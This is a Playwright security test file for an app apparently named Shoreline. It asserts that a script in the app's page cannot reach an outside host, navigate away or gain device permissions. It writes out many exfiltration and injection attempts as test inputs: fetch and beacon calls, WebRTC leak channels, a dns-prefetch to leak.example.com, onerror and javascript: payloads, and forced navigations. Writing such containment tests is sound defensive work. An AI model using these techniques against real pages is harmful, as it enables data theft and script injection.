/** A hostile script in the page, against the whole program: nothing gets out. */

import { readFile } from 'node:fs/promises'
import { expect } from '../support/app.ts'
import { CUT_OFF, EXAMPLE, open, ran, runCommand, test } from '../support/attack.ts'
import { Workbench } from '../support/workbench.ts'

test.use(CUT_OFF)

test('a whole session asks for nothing but the app’s own files', async ({ app, folder, outside, misdeeds }) => {
  const { page } = app
  const bench = new Workbench(page)
  await bench.settled()
  await open(app, folder, 'session.cpo.json', await readFile(EXAMPLE))
  await expect(page).toHaveTitle('session.cpo.json')
  await bench.settled()
  await bench.select('oe-1')
  await bench.canvas.focus()
  await page.keyboard.press('ArrowRight')
  await expect(page).toHaveTitle('session.cpo.json · Edited')
  await bench.settled()
  await page.keyboard.press('Control+s')
  await expect(page).toHaveTitle('session.cpo.json')
  await bench.canvas.focus()
  await page.keyboard.press('Shift+i')
  await expect(page.getByTestId('influence-matrix')).toContainText('oe-1', { timeout: 60_000 })
  await page.keyboard.press('Escape')
  await runCommand(page, 'Warm-up over time')
  await expect(page.getByTestId('transient-state')).toHaveAttribute('data-state', 'solved', { timeout: 60_000 })
  await runCommand(page, 'About Shoreline')
  await expect(page.getByRole('dialog')).toContainText('Shoreline')
  expect(misdeeds).toEqual([])
  expect(outside.touches).toEqual([])
})

test('a script in the page reaches no network, by whatever way', async ({ app, outside }) => {
  const { page } = app
  const bench = new Workbench(page)
  await bench.settled()
  const attempts = await page.evaluate(async (address) => {
    const [http, ws] = [`http://${address}/`, `ws://${address}/`]
    const fails = async (run: () => unknown): Promise<string> => {
      try {
        await run()
        return 'went through'
      } catch {
        return 'refused'
      }
    }
    const once = (target: EventTarget) =>
      new Promise<void>((resolve, reject) => {
        for (const name of ['open', 'load']) target.addEventListener(name, () => resolve())
        for (const name of ['error', 'close']) target.addEventListener(name, () => reject(new Error(name)))
        setTimeout(() => reject(new Error('silence')), 1500)
      })
    const element = (name: string, attributes: Record<string, string>) => {
      const made = document.createElement(name)
      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value)
      const answered = once(made)
      document.body.append(made)
      return answered
    }
    const request = new XMLHttpRequest()
    const ways: Record<string, () => unknown> = {
      fetch: () => fetch(http),
      'fetch without reading': () => fetch(http, { mode: 'no-cors' }),
      'fetch that outlives the page': () => fetch(http, { mode: 'no-cors', keepalive: true }),
      XMLHttpRequest: () => {
        request.open('GET', http)
        request.send()
        return once(request)
      },
      WebSocket: () => once(new WebSocket(ws)),
      EventSource: () => once(new EventSource(http)),
      import: () => import(/* @vite-ignore */ `${http}module.js`),
      Worker: () => once(new Worker(`${http}worker.js`)),
      'Worker of a blob': () => once(new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))),
      SharedWorker: () => once(new SharedWorker(`${http}worker.js`)),
      ServiceWorker: () => navigator.serviceWorker.register(`${http}worker.js`),
      FontFace: () => new FontFace('outside', `url(${http}font.woff2)`).load(),
      image: () => element('img', { src: `${http}image.png` }),
      script: () => element('script', { src: `${http}script.js` }),
      style: () => element('link', { rel: 'stylesheet', href: `${http}style.css` }),
      icon: () => element('link', { rel: 'icon', href: `${http}icon.png` }),
      manifest: () => element('link', { rel: 'manifest', href: `${http}manifest.json` }),
      prefetch: () => element('link', { rel: 'prefetch', href: `${http}next` }),
      preload: () => element('link', { rel: 'preload', as: 'image', href: `${http}next.png` }),
      modulepreload: () => element('link', { rel: 'modulepreload', href: `${http}next.js` }),
      preconnect: () => element('link', { rel: 'preconnect', href: http }),
      'dns-prefetch': () => element('link', { rel: 'dns-prefetch', href: '//leak.example.com' }),
      prerender: () => element('link', { rel: 'prerender', href: http }),
      'style attribute': () => element('div', { style: `background: url(${http}back.png)` }),
      audio: () => element('audio', { src: `${http}sound.ogg`, autoplay: '' }),
      video: () => element('video', { poster: `${http}poster.png`, src: `${http}film.webm` }),
      track: () => element('track', { src: `${http}words.vtt` }),
      svg: () => element('svg', { href: `${http}use.svg#a` }),
      object: () => element('object', { data: `${http}object` }),
      embed: () => element('embed', { src: `${http}embed` }),
      iframe: async () => {
        await element('iframe', { src: `${http}frame` })
        throw new Error('The error page of a refused frame loads; whether it got out is seen outside.')
      },
    }
    const results: Record<string, string> = {}
    await Promise.all(
      Object.entries(ways).map(async ([name, run]) => {
        results[name] = await fails(run)
      }),
    )
    // A beacon says that it is queued, not that it went; whether it did is seen outside.
    navigator.sendBeacon(http, 'beacon')
    const ping = document.createElement('a')
    Object.assign(ping, { href: '#', ping: http })
    ping.click()
    if (document.body.style.setProperty('--x', '1') === undefined)
      document.body.style.backgroundImage = `url(${http}css)`
    await new Promise((later) => setTimeout(later, 1000))
    return Object.entries(results).flatMap(([name, result]) => (result === 'refused' ? [] : [`${name} ${result}`]))
  }, outside.address)
  expect(attempts).toEqual([])
  for (const worker of page.workers()) {
    const inWorker = await worker.evaluate(
      (address) =>
        fetch(`http://${address}/worker`, { mode: 'no-cors' }).then(
          () => 'went through',
          () => 'refused',
        ),
      outside.address,
    )
    expect(inWorker).toBe('refused')
  }
  expect(page.workers().length).toBeGreaterThan(0)
  expect(outside.touches).toEqual([])
})

test('a call to another browser gets no datagram and no connection out', async ({ app, outside }) => {
  await app.page.evaluate(async (address) => {
    const credentials = { username: 'a', credential: 'b' }
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:${address}` },
        { urls: `turn:${address}`, ...credentials },
        { urls: `turn:${address}?transport=tcp`, ...credentials },
      ],
    })
    peer.createDataChannel('leak')
    await peer.setLocalDescription(await peer.createOffer())
    await new Promise((later) => setTimeout(later, 2500))
    peer.close()
  }, outside.address)
  expect(outside.touches).toEqual([])
})

test('what the page embeds stays empty, and what it sends as a form stays here', async ({ app, outside }) => {
  const { page } = app
  const address = page.url()
  await new Workbench(page).settled()
  await page.evaluate(async (to) => {
    const add = (name: string, attributes: Record<string, string>, inside = '') => {
      const made = document.createElement(name)
      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value)
      made.innerHTML = inside
      document.body.append(made)
      return made
    }
    const script = '<script>parent.ran=1;window.ran=1</script>'
    add('iframe', { srcdoc: script })
    add('iframe', { src: 'javascript:parent.ran=1' })
    add('iframe', { src: `data:text/html,${script}` })
    add('iframe', { src: URL.createObjectURL(new Blob([script], { type: 'text/html' })) })
    add('iframe', { src: `http://${to}/frame` })
    add('object', { data: `data:text/html,${script}` })
    add('embed', { src: `http://${to}/embed` })
    add('webview', { src: `http://${to}/webview`, nodeintegration: 'true', style: 'display:inline-flex' })
    add('portal', { src: `http://${to}/portal` })
    add('base', { href: `http://${to}/` })
    add('div', {}, '<img src=x onerror="window.ran=1"><svg onload="window.ran=1"></svg>')
    for (const method of ['get', 'post', 'dialog']) {
      const form = add('form', { action: `http://${to}/form`, method }, '<input name="a" value="b">') as HTMLFormElement
      form.submit()
    }
    add('form', { action: 'javascript:window.ran=1' }, '<button>x</button>').querySelector('button')?.click()
    add('a', { href: 'javascript:window.ran=1' }).click()
    await new Promise((later) => setTimeout(later, 800))
  }, outside.address)
  expect(await ran(page)).toBeNull()
  expect(page.url()).toBe(address)
  expect(new URL(await page.evaluate(() => document.baseURI)).href).toBe(address)
  expect(outside.touches).toEqual([])
})

const DEPARTURES: Readonly<Record<string, (address: string) => void>> = {
  'a link': (address) => Object.assign(document.createElement('a'), { href: address }).click(),
  'a link that opens a window': (address) =>
    Object.assign(document.createElement('a'), { href: address, target: '_blank', rel: 'noopener' }).click(),
  'a link that opens a window and holds on to it': (address) =>
    Object.assign(document.createElement('a'), { href: address, target: 'other', rel: 'opener' }).click(),
  location: (address) => void location.assign(address),
  'location that forgets': (address) => location.replace(address),
  'an entry in the history': (address) => void Object.assign(location, { href: address }),
  'meta refresh': (address) => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = `0;url=${address}`
    document.head.append(meta)
  },
  'window.open': (address) => void window.open(address),
  'window.open with features': (address) =>
    void window.open(address, 'other', 'width=300,height=300,nodeIntegration=yes'),
  'window.open of nothing, then location': (address) => {
    const opened = window.open('about:blank')
    if (opened) opened.location.href = address
  },
  'the top of a frame': (address) => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    frame.contentWindow?.open(address, '_top')
  },
}

for (const [way, leave] of Object.entries(DEPARTURES)) {
  test(`the page cannot be left by ${way}`, { tag: '@desktop' }, async ({ app, outside }) => {
    const { page } = app
    const address = page.url()
    const windows = page.context().pages().length
    await page.evaluate(leave, `http://${outside.address}/departure`).catch(() => {})
    await page.waitForTimeout(700)
    expect(page.url()).toBe(address)
    await expect.poll(() => page.context().pages().length).toBe(windows)
    await expect(page.getByTestId('verdict-table')).toBeVisible()
    expect(outside.touches).toEqual([])
  })
}

test('a script in the page is given no permission and no device', async ({ app }) => {
  const { page } = app
  // Whoever is asked for it would have said yes.
  await page.context().grantPermissions(['geolocation', 'clipboard-read', 'midi', 'camera', 'microphone'])
  const granted = await page.evaluate(async () => {
    const attempts: Record<string, () => Promise<unknown>> = {
      geolocation: () =>
        new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject, { timeout: 1500 })),
      camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
      microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }),
      screen: () => navigator.mediaDevices.getDisplayMedia(),
      'clipboard-read': () => navigator.clipboard.readText(),
      midi: () => navigator.requestMIDIAccess(),
      fullscreen: () => document.body.requestFullscreen(),
      wakeLock: () => navigator.wakeLock.request('screen'),
    }
    for (const [name, method] of [
      ['usb', 'requestDevice'],
      ['hid', 'requestDevice'],
      ['serial', 'requestPort'],
      ['bluetooth', 'requestDevice'],
    ] as const) {
      const api = Reflect.get(navigator, name)
      attempts[name] = () => (api ? api[method]({ filters: [], acceptAllDevices: true }) : Promise.reject())
      attempts[`${name}, known ones`] = async () => {
        const known = await (api?.getDevices ?? api?.getPorts)?.call(api)
        if (!known || known.length === 0) throw new Error('none')
      }
    }
    const results = await Promise.all(
      Object.entries(attempts).map(async ([name, attempt]) => {
        const silence = new Promise((_resolve, reject) => setTimeout(reject, 2500))
        return Promise.race([attempt(), silence]).then(
          () => [name],
          () => [],
        )
      }),
    )
    return results.flat()
  })
  expect(granted).toEqual([])
})
